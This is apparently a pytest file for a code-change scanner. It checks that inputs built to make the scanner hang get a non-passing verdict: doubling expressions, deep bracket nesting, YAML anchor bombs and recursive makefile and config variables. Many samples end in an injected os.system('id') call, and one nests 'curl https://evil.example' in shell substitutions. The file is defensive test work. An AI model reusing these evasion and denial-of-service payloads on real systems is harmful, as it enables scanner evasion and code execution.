"""GUARD §extract-closed: input that is made to take for ever is answered, and not with PASS.

The time limit of the suite is what ends a test that hangs.
"""

import pytest

from consentry.declare.patchbundle import Blob
from consentry.examine.verdict import Status
from tests.examine.attacks.reader import Attack, judged

RUNS = "\n__import__('os').system('id')\n"


def doubling(value: str, step: str, count: int) -> str:
    """Names that each stand for twice the one before."""
    return "".join(
        [f"a0 = {value}\n", *(f"a{at + 1} = {step.format(f'a{at}')}\n" for at in range(count))]
    )


LARGE = {
    "lists that double by unpacking": ("a.py", doubling("['x']", "[*{0}, *{0}]", 50) + RUNS),
    "texts that double": ("a.py", doubling("'x'", "{0} + {0}", 60) + "open(a60)" + RUNS),
    "numbers that double": ("a.py", doubling("0xffff", "{0} + {0}", 60) + "chr(a60)" + RUNS),
    "functions that call each other twice": (
        "a.py",
        "".join(f"def f{at}(): return f{at + 1}() or f{at + 1}()\n" for at in range(1000)) + RUNS,
    ),
    "a width of a thousand million": ("a.py", "open('%1000000000s' % 'a')" + RUNS),
    "a text put into itself": ("a.py", "a = 'a' * 8000\nopen(a.replace('a', a))" + RUNS),
    "a chain of fifty thousand attributes": ("a.py", "a" + ".b" * 50_000 + RUNS),
    "a sum of fifty thousand": ("a.py", "x = " + "'a' + " * 50_000 + "'a'" + RUNS),
    "many exceptions of one name": (
        "a.py",
        "try: pass\nexcept E as eval: eval\n" * 3000 + RUNS,
    ),
    "many blocks for type checkers": (
        "a.py",
        "from typing import TYPE_CHECKING\n" + "if TYPE_CHECKING: x = 1\n" * 10_000 + RUNS,
    ),
    "brackets in JavaScript": ("a.js", "(" * 20_000 + ")" * 20_000),
    "templates in JavaScript": ("a.js", "x = " + "`${" * 2000 + "eval(y)" + "}`" * 2000),
    "substitutions in a script": ("a.sh", "$(" * 900 + "curl https://evil.example" + ")" * 900),
    "documents in a script": ("a.sh", "cat <<A\n" * 900),
    "anchors of anchors": (
        ".github/workflows/a.yml",
        "a0: &a0 [x, x]\n"
        + "".join(f"a{at + 1}: &a{at + 1} [*a{at}, *a{at}, *a{at}]\n" for at in range(40)),
    ),
    "brackets in YAML": ("compose.yml", "[" * 50_000),
    "brackets in JSON": ("package.json", "[" * 100_000),
    "brackets in TOML": ("pyproject.toml", "a = " + "[" * 50_000),
    "a line of a million letters": ("requirements.txt", "a" * 1_000_000),
    "variables of a makefile": (
        "Makefile",
        "".join(f"V{at} = $(V{at + 1})$(V{at + 1})\n" for at in range(60)) + "a:\n\t$(V0)\n",
    ),
    "values of a setup file": (
        "setup.cfg",
        "[options]\ninstall_requires = nobody-knows-this-package\n[a]\n"
        + "".join(f"a{at} = %(a{at + 1})s%(a{at + 1})s\n" for at in range(60)),
    ),
}


@pytest.mark.parametrize(("path", "content"), LARGE.values(), ids=LARGE)
def test_what_is_made_to_take_long_is_answered(path: str, content: str) -> None:
    """A few bytes that stand for very many do not stop the answer, and do not make it PASS."""
    verdict = judged(Attack(path, after={path: Blob(content.encode(), "100644")}))
    assert verdict.status is not Status.PASS
